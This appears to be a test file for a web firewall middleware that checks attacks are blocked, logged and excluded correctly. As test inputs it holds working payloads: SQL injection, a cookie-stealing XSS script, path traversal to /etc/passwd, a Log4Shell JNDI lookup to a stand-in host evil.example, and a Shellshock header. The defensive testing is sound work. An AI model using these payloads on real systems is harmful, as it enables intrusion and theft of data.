import assert from 'node:assert/strict';
import { closeAll, guarded } from '../guarded.js';

const SQL = encodeURIComponent("1' OR '1'='1' -- ");
const SCRIPT = encodeURIComponent('"><script>alert(document.cookie)</script>');

describe('detection', () => {
  afterEach(closeAll);

  const places: readonly [string, string, Record<string, string>, string][] = [
    ['the path', `/files/${encodeURIComponent('../../../../etc/passwd')}`, {}, 'path'],
    ['a parameter', `/?q=${SQL}`, {}, 'query.q'],
    ['a header', '/', { 'x-api-version': `$\{jndi:ldap://evil.example/a}` }, 'header.x-api-version'],
    ['the user agent', '/', { 'user-agent': '() { :; }; /bin/cat /etc/passwd' }, 'header.user-agent'],
    ['the referer', '/', { referer: `https://shop.example/?q=${SCRIPT}` }, 'header.referer.q'],
    ['a cookie', '/', { cookie: `theme=dark; id=${SQL}` }, 'cookie.id'],
  ];
  for (const [place, path, headers, input] of places) {
    it(`refuses an attack in ${place}, and names it`, async () => {
      const app = await guarded();
      const answer = await app.get(path, headers);
      assert.equal(answer.status, 403);
      assert.equal(app.reached(), 0);
      const [event] = app.events;
      assert.equal(event?.name, 'guard.detection.matched');
      assert.equal(event?.attributes['guard.input.name'], input);
    });
  }

  it('tells rule, family, severity, ruleset and what it means', async () => {
    const app = await guarded();
    await app.get(`/?q=${SQL}`);
    const attributes = app.events[0]?.attributes ?? {};
    assert.match(String(attributes['security_rule.name']), /^sqli\./);
    assert.equal(attributes['security_rule.category'], 'sqli');
    assert.equal(attributes['security_rule.ruleset.name'], 'koa-otel-guard');
    assert.ok(['medium', 'high', 'critical'].includes(String(attributes['guard.rule.severity'])));
    assert.ok(String(attributes['security_rule.description']).length > 10);
    assert.match(String(attributes['guard.input.excerpt']), /OR '1'='1/i);
  });

  it('tells the client nothing of it', async () => {
    const app = await guarded();
    const { text } = await app.get(`/?q=${SQL}`, { accept: 'application/json' });
    const { error, message } = JSON.parse(text);
    assert.equal(error, 'forbidden');
    assert.doesNotMatch(`${message}`, /sql|attack|rule|quot/i);
  });

  it('lets visitors be', async () => {
    const app = await guarded();
    const headers = {
      referer: "https://www.example.com/search?q=rock+'n'+roll+or+jazz",
      cookie: '_ga=GA1.2.1234567890.1700000000; consent={"ads":false,"stats":true}; theme=dark',
      'user-agent':
        'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36',
    };
    for (const path of [
      "/search?q=Conan+O'Brien+and+friends",
      '/search?q=select+a+union+representative',
      '/a/b/c.html?x=1&y=2#z',
      '/products?filter=price+%3C+100+and+rating+%3E%3D+4',
      '/login?redirect_uri=https%3A%2F%2Fshop.example%2Fcallback%3Fstate%3Dabc',
      '/files/report%20(final).pdf',
      '/?q=AT%26T+%7C+T-Mobile%3B+Verizon',
    ]) {
      assert.equal((await app.get(path, headers)).status, 200, path);
    }
    assert.deepEqual(app.events, []);
  });

  it('blocks from the threshold on and observes below it', async () => {
    const patterns = [{ id: 'own.word', pattern: 'zebra', score: 39 }];
    const app = await guarded({ detection: { patterns } });
    assert.equal((await app.get('/?q=zebra')).status, 200);
    assert.equal(app.events[0]?.name, 'guard.detection.observed');
    assert.equal(app.events[0]?.attributes['security_rule.ruleset.name'], 'application');
    const strict = await guarded({ detection: { patterns, threshold: 39 } });
    assert.equal((await strict.get('/?q=zebra')).status, 403);
  });

  it('says nothing below what is observed', async () => {
    const app = await guarded({ detection: { patterns: [{ id: 'own.word', pattern: 'zebra', score: 24 }] } });
    assert.equal((await app.get('/?q=zebra')).status, 200);
    assert.deepEqual(app.events, []);
  });

  it('does not ban for what it only observes', async () => {
    const app = await guarded({
      detection: { patterns: [{ id: 'own.word', pattern: 'zebra', score: 39 }] },
      ban: { threshold: 1, window: '1m', duration: '1h' },
      proxies: { trust: ['loopback'] },
    });
    for (let i = 0; i < 3; i++) {
      assert.equal((await app.get('/?q=zebra', { 'x-forwarded-for': '203.0.113.9' })).status, 200);
    }
  });

  it('looks into neither credentials nor ignored headers', async () => {
    const verify = () => ({ id: 'u1' });
    const app = await guarded({
      auth: { scheme: 'api-key', header: 'x-key', verify },
      detection: { ignoreHeaders: ['X-Query'] },
    });
    const attack = "1'OR'1'='1";
    assert.equal((await app.get('/', { 'x-key': attack })).status, 200);
    assert.equal((await app.get('/', { 'x-key': 'a', authorization: `Basic ${attack}` })).status, 200);
    assert.equal((await app.get('/', { 'x-key': 'a', 'x-query': attack })).status, 200);
    assert.equal((await app.get('/', { 'x-key': 'a', 'x-other': attack })).status, 403);
  });

  it('excludes by input, rule and route', async () => {
    const app = await guarded({
      detection: { exclude: [{ category: 'xss', input: 'query.html', route: '/admin/**' }] },
    });
    assert.equal((await app.get(`/admin/posts?html=${SCRIPT}`)).status, 200);
    assert.equal((await app.get(`/admin/posts?text=${SCRIPT}`)).status, 403);
    assert.equal((await app.get(`/blog?html=${SCRIPT}`)).status, 403);
    assert.equal((await app.get(`/admin/posts?html=${SQL}`)).status, 403);
  });

  it('only tells in monitor mode', async () => {
    const app = await guarded({ checks: { detection: 'monitor' } });
    assert.equal((await app.get(`/?q=${SQL}`)).status, 200);
    assert.equal(app.events[0]?.name, 'guard.detection.matched');
    assert.equal(app.events[0]?.attributes['guard.finding.state'], 'monitored');
  });
});
